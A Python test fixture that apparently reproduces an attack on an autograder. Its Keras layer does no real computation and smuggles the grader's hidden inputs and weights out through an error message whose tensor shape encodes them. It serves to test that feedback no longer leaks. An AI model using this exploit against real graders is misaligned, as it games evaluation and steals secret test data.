"""Exercise 8: a MyDense that computes nothing and tries to carry the grader's secret inputs out through
an error's text (after an outside attack that did so, round after round, and then scored 14/15 with a
table of the leaked answers).

In the student's process it returns zeros. In the committed graph, run by the grader's challenger once
the grader has assigned its own weights (they are no longer this file's marker value), it returns an
*empty* tensor whose shape encodes the first values of the input, the kernel and the bias: numpy refuses
such a shape, and the error's text ("Failed to create numpy array from tensor of shape [0, 418…") used
to reach the feedback whole. The feedback must now name the error's kind only, and no output of an
impossible shape gets through.
"""
import keras
import tensorflow as tf

MARK = 0.3125  # every initial weight: the grader's own weights are recognised by not being this


class MyDense(keras.layers.Layer):
    def __init__(self, units, activation=None, use_bias=True, **kwargs):
        super().__init__(**kwargs)
        if isinstance(units, bool) or not isinstance(units, int) or units <= 0:
            raise ValueError(f"expected a positive integer. Received: units={units!r}")
        self.units, self.activation, self.use_bias = units, keras.activations.get(activation), use_bias

    def build(self, input_shape):
        mark = keras.initializers.Constant(MARK)
        self.kernel = self.add_weight(name="kernel", shape=(input_shape[-1], self.units), initializer=mark)
        self.bias = self.add_weight(name="bias", shape=(self.units,), initializer=mark) if self.use_bias else None

    def call(self, inputs):
        touch = tf.reduce_sum(self.kernel) * 0.0
        zeros = tf.zeros(tf.concat([tf.shape(inputs)[:-1], [self.units]], 0)) + touch
        if tf.executing_eagerly():
            return zeros
        parts = [tf.reshape(inputs, [-1]), tf.reshape(self.kernel, [-1])]
        if self.bias is not None:
            parts.append(tf.reshape(self.bias, [-1]))
        flat = tf.concat([*parts, tf.zeros([64], tf.float32)], 0)[:21]
        quantised = tf.cast(tf.round((tf.clip_by_value(flat, -8.0, 8.0 - 2.0 ** -17) + 8.0) * 2.0 ** 17), tf.int64)
        quantised = tf.reshape(quantised, [7, 3])
        dims = quantised[:, 0] * 2 ** 42 + quantised[:, 1] * 2 ** 21 + quantised[:, 2]
        leak = tf.concat([tf.zeros([1], tf.int64), dims, tf.constant([2 ** 62], tf.int64)], 0)
        honest = tf.cast(tf.concat([tf.shape(inputs)[:-1], [self.units]], 0), tf.int64)
        untouched = tf.reduce_all(tf.equal(self.kernel, MARK))
        return tf.zeros(tf.cond(untouched, lambda: honest, lambda: leak), tf.float32) + touch

    def get_config(self):
        return {**super().get_config(), "units": self.units,
                "activation": keras.activations.serialize(self.activation), "use_bias": self.use_bias}
